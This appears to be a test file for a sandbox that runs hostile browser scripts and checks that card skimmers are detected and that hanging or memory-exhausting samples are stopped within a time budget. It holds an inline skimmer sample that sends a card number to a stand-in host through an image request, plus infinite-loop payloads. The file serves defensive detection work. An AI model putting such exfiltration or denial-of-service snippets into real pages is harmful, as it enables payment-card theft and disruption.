// Hostile samples end with a recorded reason within the time budget, and the chamber carries on.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { childrenNamed } from '../../core/proc-tree.ts'
import type { Observation } from '../../core/types.ts'
import { createChamber, type Chamber } from '../../crawler/detonate.ts'
import { loadDetonateSamples } from '../../fixtures/detonate/load.ts'

const BUDGET_MS = 10_000
const samples = loadDetonateSamples()
const hostile = samples.filter((s) => (s.expected.status ?? 'ok') !== 'ok')
const sourceOf = (name: string) => samples.find((s) => s.name === name)?.source ?? ''

let chamber: Chamber

async function timed(o: Promise<Observation>): Promise<Observation & { elapsed: number }> {
  const started = Date.now()
  const observation = await o
  return { ...observation, elapsed: Date.now() - started }
}

/** The chamber still works: a WebSocket skimmer is caught sending the card. */
async function expectNextWorks(c: Chamber): Promise<void> {
  const o = await c.detonate(sourceOf('websocket'))
  expect(o.status, o.reason ?? '').toBe('ok')
  expect(o.requests.some((r) => r.type === 'websocket' && r.carriesCard)).toBe(true)
}

beforeAll(async () => {
  chamber = await createChamber({ timeBudgetMs: BUDGET_MS })
}, 30_000)

afterAll(async () => {
  await chamber?.close()
})

describe('hostile samples', () => {
  it('has an endless loop and an allocation bomb', () => {
    expect(hostile.map((s) => s.name)).toEqual(
      expect.arrayContaining(['endless-loop', 'allocate-until-crash']),
    )
  })

  it.each(hostile.map((s) => [s.name, s] as const))(
    '%s ends with its reason within the budget, and the next detonation works',
    { timeout: 60_000 },
    async (_, sample) => {
      const o = await timed(chamber.detonate(sample.source))
      expect(o.status).toBe(sample.expected.status)
      expect(o.reason).toMatch(new RegExp(sample.expected.reason ?? '.'))
      expect(o.elapsed).toBeLessThan(BUDGET_MS + 1000)
      await expectNextWorks(chamber)
    },
  )

  it('stops a loop that starts late, from a timer', { timeout: 60_000 }, async () => {
    const o = await timed(chamber.detonate('setTimeout(function () { for (;;) {} }, 5000)'))
    expect(o.status).toBe('budget')
    expect(o.reason).toMatch(
      /while running timers to 7\.5 s of page time on https:\/\/shop\.example\/checkout\/#payment: the page's main thread stopped answering/,
    )
    expect(o.pages).toEqual(['https://shop.example/checkout/#payment'])
    expect(o.elapsed).toBeLessThan(BUDGET_MS + 1000)
    await expectNextWorks(chamber)
  })

  it('keeps what a sample did before it hung', { timeout: 60_000 }, async () => {
    const o = await chamber.detonate(
      "new Image().src = 'https://x.example/i?c=4111111111111111'; localStorage.k = 1;" +
        'setTimeout(function () { for (;;) {} }, 1000)',
    )
    expect(o.status).toBe('budget')
    expect(o.requests.filter((r) => r.carriesCard).map((r) => r.type)).toEqual(['image'])
    expect(o.storage).toEqual([{ area: 'localStorage', key: 'k' }])
  })
})

describe('the browser', () => {
  it('is relaunched when it died between detonations', { timeout: 60_000 }, async () => {
    const before = new Set(childrenNamed(process.pid, 'chromium').map((p) => p.pid))
    const own = await createChamber({ timeBudgetMs: BUDGET_MS })
    try {
      const started = childrenNamed(process.pid, 'chromium').filter((p) => !before.has(p.pid))
      expect(started).toHaveLength(1)
      process.kill(started[0]!.pid, 'SIGKILL')
      await expectNextWorks(own)
    } finally {
      await own.close()
    }
  })
})
